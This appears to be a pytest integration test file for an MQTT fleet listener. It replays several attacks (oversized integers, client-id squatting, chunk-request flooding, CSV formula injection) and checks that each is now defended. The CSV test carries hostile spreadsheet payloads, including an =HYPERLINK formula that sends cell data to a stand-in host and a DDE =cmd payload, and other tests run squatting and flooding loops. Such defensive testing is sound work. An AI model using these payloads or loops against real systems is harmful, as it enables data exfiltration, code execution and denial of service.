"""Attacks on the host listener, against a real mosquitto and the real ``edgefleet`` CLI.

Issue 16:

- attack 1: a record with ``seq`` / ``model_version`` of 2^64 or 2^70 killed
  ``predictions listen`` (an OverflowError in the SQLite store);
- attack 6: any client could connect with the listener's predictable client id
  (``edgefleet-ingest-{prefix}-{worker}``) and keep kicking it off;
- attack 8: 300 chunk requests of ~130 bytes made a waiting ``push`` republish 1,200 chunks;
- attack 11: ``predictions export --csv`` wrote device-supplied labels as live formulas.
"""

from __future__ import annotations

import csv
import json
import math
import os
import signal
import subprocess
import sys
import threading
import time
import uuid
from collections import Counter
from pathlib import Path

import paho.mqtt.client as mqtt
import pytest
from paho.mqtt.enums import CallbackAPIVersion

from edgefleet.host.fleet import PushPlan, SqliteStore, close_fleet, load_model, open_fleet, push
from edgefleet.host.fleet._ratelimit import DeviceLimits
from edgefleet.shared.chunks import decode_chunk
from edgefleet.shared.manifest import private_key_pem
from edgefleet.shared.messages import Ack, ChunkRequest, PredictionRecord, decode, encode
from edgefleet.shared.topics import Topics
from support.agent import Signer, shared_mnist_model

pytestmark = pytest.mark.integration

CLI = [sys.executable, "-c", "from edgefleet.host.cli import main; main()"]


def _record(seq: int, **kw: object) -> PredictionRecord:
    fields: dict[str, object] = {
        "device_id": "field-01",
        "boot_id": "boot1",
        "seq": seq,
        "source": f"scan-{seq}.png",
        "label": "pipe",
        "score": 0.9,
        "latency_ms": 1.0,
        "model_name": "gpr",
        "model_version": 3,
        "ts": time.time(),
    }
    fields.update(kw)
    return PredictionRecord(**fields)  # type: ignore[arg-type]


def _raw(base: int, **overrides: object) -> bytes:
    """A record's JSON with fields no valid PredictionRecord may carry."""
    doc = json.loads(encode(_record(base)))
    doc.update(overrides)
    return json.dumps(doc).encode()


class RawDevice:
    """A bare paho client (no agent) publishing on a device's predictions topic."""

    def __init__(self, url: str, prefix: str, device_id: str = "field-01") -> None:
        self.topics = Topics(prefix)
        self.device_id = device_id
        self.acked: set[int] = set()
        self.lock = threading.Lock()
        host, port = url.removeprefix("mqtt://").split(":")
        self.client = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=f"raw-{uuid.uuid4().hex}")
        self.client.on_message = self._on_ack
        self.client.connect(host, int(port))
        self.client.loop_start()
        self.client.subscribe(self.topics.predictions_ack(device_id), qos=1)
        time.sleep(0.2)

    def _on_ack(self, _c: object, _u: object, msg: mqtt.MQTTMessage) -> None:
        with self.lock:
            self.acked.update(decode(Ack, msg.payload).seqs)

    def publish(self, payload: bytes) -> None:
        self.client.publish(
            self.topics.predictions(self.device_id), payload, qos=1
        ).wait_for_publish(10)

    def wait_acked(self, seqs: set[int], timeout: float = 30.0) -> None:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            with self.lock:
                if seqs <= self.acked:
                    return
            time.sleep(0.05)
        raise TimeoutError(f"acked {sorted(self.acked)}, wanted {sorted(seqs)}")

    def close(self) -> None:
        self.client.disconnect()
        self.client.loop_stop()


class Listener:
    """``edgefleet predictions listen`` as a child process, its stderr in a file."""

    def __init__(self, url: str, prefix: str, root: Path) -> None:
        self.db = root / "predictions.sqlite"
        self.state = root / "host-state"
        self.log_path = root / "listener.log"
        with self.log_path.open("ab") as log:
            self.proc = subprocess.Popen(
                [
                    *CLI,
                    *("predictions", "listen", "--broker", url, "--prefix", prefix),
                    *("--db", str(self.db), "--state-dir", str(self.state)),
                ],
                stdout=log,
                stderr=log,
                env=dict(os.environ),
            )
        deadline = time.monotonic() + 30
        while "listening on" not in self.log():
            assert self.proc.poll() is None, self.log()
            assert time.monotonic() < deadline, self.log()
            time.sleep(0.05)

    def log(self) -> str:
        return self.log_path.read_text(errors="replace")

    def stored(self) -> dict[int, PredictionRecord]:
        store = SqliteStore(self.db)
        try:
            return {r.seq: r for _id, r in store.iter_records()}
        finally:
            store.close()

    def stop(self) -> str:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            self.proc.wait(30)
        return self.log()


@pytest.fixture
def listener(broker, prefix, tmp_path):
    proc = Listener(broker.url, prefix, tmp_path)
    yield proc
    proc.stop()


# -- attack 1 ------------------------------------------------------------------------------


def test_records_with_huge_integers_leave_the_listener_up_and_the_next_record_stored(
    broker, prefix, listener
):
    device = RawDevice(broker.url, prefix)
    try:
        device.publish(encode(_record(1)))
        device.wait_acked({1})
        hostile = [
            _raw(2, seq=2**64),
            _raw(3, seq=2**70),
            _raw(4, model_version=2**64),
            _raw(5, model_version=2**70),
            b'{"v":1,"records":[' + encode(_record(6)) + b"," + _raw(7, seq=2**64) + b"]}",
        ]
        for payload in hostile:
            device.publish(payload)
        device.publish(encode(_record(8)))
        device.wait_acked({1, 8})
        assert listener.proc.poll() is None, listener.log()
        assert sorted(listener.stored()) == [1, 8]  # the hostile batch was refused whole
        assert device.acked == {1, 8}  # nothing in a malformed message is acked
    finally:
        device.close()
    log = listener.stop()
    assert listener.proc.returncode == 0, log
    assert "seq: out of range: integers on the wire are 0 .. 2^63-1" in log
    assert "model_version: out of range" in log
    assert "stored 2 new, 0 duplicates, 5 malformed" in log
    assert "Traceback" not in log


# -- attack 6 ------------------------------------------------------------------------------


def test_a_client_with_the_old_predictable_id_cannot_kick_the_listener_off(
    broker, prefix, listener
):
    """The id a device could compute before (and plausible variants) are not the listener's."""
    host, port = broker.url.removeprefix("mqtt://").split(":")
    guesses = [f"edgefleet-ingest-{prefix}-1", f"edgefleet-ingest-{prefix}-w1"]
    guesses += [f"edgefleet-host-ingest-{prefix}-1", "edgefleet-ingest-fleet-1"]
    stop = threading.Event()
    kicks = Counter[str]()

    def squat() -> None:
        while not stop.is_set():
            for cid in guesses:
                c = mqtt.Client(CallbackAPIVersion.VERSION2, client_id=cid)
                try:
                    c.connect(host, int(port))
                    c.loop(0.05)
                    kicks[cid] += 1
                finally:
                    c.disconnect()
            time.sleep(0.02)

    squatter = threading.Thread(target=squat, daemon=True)
    squatter.start()
    device = RawDevice(broker.url, prefix)
    try:
        for seq in range(1, 31):
            device.publish(encode(_record(seq)))
            time.sleep(0.05)
        device.wait_acked(set(range(1, 31)), timeout=20)
    finally:
        stop.set()
        squatter.join(10)
        device.close()
    assert sum(kicks.values()) >= 20  # the squatter really kept connecting
    assert sorted(listener.stored()) == list(range(1, 31))
    secret = listener.state / "client-id.secret"
    assert secret.is_file()
    assert oct(secret.stat().st_mode & 0o777) == "0o600"


# -- attack 11 -----------------------------------------------------------------------------


def test_csv_export_through_the_cli_neutralises_formulas(broker, prefix, listener, tmp_path):
    device = RawDevice(broker.url, prefix)
    hostile = {
        1: ('=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0"),
        2: ("+SUM(1,2)", "@SUM(A1:A9)"),
        3: ("-1+2", "\t=1+1"),
        4: ("pipe", "\r=1+1"),
    }
    try:
        for seq, (label, source) in hostile.items():
            device.publish(encode(_record(seq, label=label, source=source)))
        device.wait_acked(set(hostile))
    finally:
        device.close()
    out = tmp_path / "out.csv"
    done = subprocess.run(
        [*CLI, "predictions", "export", "--csv", "--db", str(listener.db), "-o", str(out)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    with out.open(newline="", encoding="utf-8") as f:  # keep a CR inside a cell
        rows = {int(r["seq"]): r for r in csv.DictReader(f)}
    for seq, (label, source) in hostile.items():
        want_label = label if label == "pipe" else "'" + label
        assert rows[seq]["label"] == want_label
        assert rows[seq]["source"] == "'" + source
        assert "top1_label" not in rows[seq]  # no record has a top-k list: no such columns
    assert rows[1]["score"] == "0.9"  # numbers stay numbers
    stdout = subprocess.run(
        [*CLI, "predictions", "export", "--csv", "--db", str(listener.db)],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    ).stdout
    assert "'=HYPERLINK" in stdout
    assert ",=HYPERLINK" not in stdout.replace('"', "")


# -- attack 8 ------------------------------------------------------------------------------


class ChunkCounter:
    """Counts every chunk publish on the model topics (subscribed before the push)."""

    def __init__(self, url: str, prefix: str) -> None:
        self.seen: Counter[int] = Counter()
        self.lock = threading.Lock()
        host, port = url.removeprefix("mqtt://").split(":")
        self.client = mqtt.Client(
            CallbackAPIVersion.VERSION2, client_id=f"count-{uuid.uuid4().hex}"
        )
        self.client.on_message = self._on_message
        self.client.connect(host, int(port))
        self.client.loop_start()
        self.client.subscribe(f"{prefix}/models/+/chunks/+", qos=1)
        time.sleep(0.2)

    def _on_message(self, _c: object, _u: object, msg: mqtt.MQTTMessage) -> None:
        if not msg.payload:
            return
        index = decode_chunk(bytes(msg.payload)).index
        with self.lock:
            self.seen[index] += 1

    def close(self) -> None:
        self.client.disconnect()
        self.client.loop_stop()


@pytest.fixture(scope="module")
def mnist_bundle(tmp_path_factory):
    return shared_mnist_model(tmp_path_factory)


@pytest.mark.slow
def test_a_chunk_request_flood_during_a_push_wait_is_not_amplified(
    broker, prefix, tmp_path, mnist_bundle
):
    signer = Signer(tmp_path / "keys")
    key = tmp_path / "signing.key"
    key.write_bytes(private_key_pem(signer.key))
    model = load_model(mnist_bundle.path, chunk_size=4096)
    count = model.template.variants[0].chunk_count
    counter = ChunkCounter(broker.url, prefix)
    fleet = open_fleet(
        broker=broker.url,
        fleet_dir=None,
        prefix=prefix,
        state_dir=tmp_path / "host-state",
        key_file=key,
        need_key=True,
    )
    result: list[object] = []
    pusher = threading.Thread(
        target=lambda: result.append(
            push(fleet, model, PushPlan(devices=("ghost",), wait=6, force=True))
        )
    )
    attacker = RawDevice(broker.url, prefix, device_id="attacker")
    try:
        pusher.start()
        deadline = time.monotonic() + 20
        while len(counter.seen) < count:  # the push published its chunks (retained)
            assert time.monotonic() < deadline, "the push never published its chunks"
            time.sleep(0.05)
        request = ChunkRequest(
            device_id="attacker",
            sha256=model.template.variants[0].sha256,
            indexes=list(range(count)),
        )
        topic = f"{prefix}/devices/attacker/chunk-requests"
        start = time.monotonic()
        for _ in range(300):
            attacker.client.publish(topic, encode(request), qos=1)
        attacker.client.publish(topic, encode(request), qos=1).wait_for_publish(10)
        flood_s = time.monotonic() - start
        pusher.join(30)
        time.sleep(0.5)  # the last republished chunks reach the counter
        live = counter.seen - Counter(range(count))  # minus the push's own publish
    finally:
        attacker.close()
        close_fleet(fleet)
        counter.close()
    assert result, "the push did not finish"
    limits = DeviceLimits()
    windows = 1 + math.ceil(flood_s / limits.chunk_interval_s)
    assert set(live) == set(range(count)), "the host must still answer requests"
    assert max(live.values()) <= windows, (live, flood_s)
    assert sum(live.values()) <= count * windows
    assert fleet.limiter.ignored_requests >= 301 - limits.device_requests_per_min
